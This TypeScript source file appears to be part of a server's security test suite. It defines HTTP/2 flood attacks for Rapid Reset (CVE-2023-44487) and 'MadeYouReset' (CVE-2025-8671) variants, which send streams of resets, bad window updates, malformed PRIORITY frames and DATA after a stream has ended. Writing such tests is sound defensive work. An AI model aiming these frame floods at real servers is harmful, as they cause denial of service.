/** Streams that are opened to be reset: by the client (CVE-2023-44487), or by us because of what it does (CVE-2025-8671). */
import { Flag, FrameType } from "../../server/http2/frame.ts";
import { type Attack, flood, NOTHING } from "./attack.ts";
import { block, call, frame, head, message, reset, uint32, windowUpdate } from "./frames.ts";
import { EVERYTHING, RANGE_PATH } from "./messages.ts";

const AT_ONCE = 100;
const ENDED = Flag.END_HEADERS | Flag.END_STREAM;

/** Opens streams without end; `each` says what is done with one. */
function streams(name: string, each: (id: number) => Uint8Array[], over: "plain" | "tls" = "plain"): Attack {
  return {
    name,
    expect: "gone",
    over,
    run: (scene) =>
      flood(
        scene,
        {},
        () => NOTHING,
        (_client, round) => {
          const parts: Uint8Array[] = [];
          for (let at = 0; at < AT_ONCE; at++) parts.push(...each((round * AT_ONCE + at) * 2 + 1));
          return Buffer.concat(parts);
        },
      ),
  };
}

export const RESETS: readonly Attack[] = [
  streams("rapid reset", (id) => [call(id, RANGE_PATH), reset(id)]),
  streams("rapid reset of big ranges", (id) => [call(id, RANGE_PATH), message(id, EVERYTHING, true), reset(id)]),
  streams("rapid reset (TLS)", (id) => [call(id, RANGE_PATH), reset(id)], "tls"),
  streams("made you reset: window update of 0", (id) => [call(id, RANGE_PATH), windowUpdate(id, 0)]),
  streams("made you reset: window overflow", (id) => [call(id, RANGE_PATH), windowUpdate(id, 0x7fff_ffff)]),
  streams("made you reset: bad PRIORITY", (id) => [
    call(id, RANGE_PATH),
    frame(FrameType.PRIORITY, 0, id, Buffer.concat([uint32(id), Buffer.of(1)])),
  ]),
  streams("made you reset: DATA after the end", (id) => [
    frame(FrameType.HEADERS, ENDED, id, block(head(RANGE_PATH))),
    message(id, EVERYTHING, false),
  ]),
];
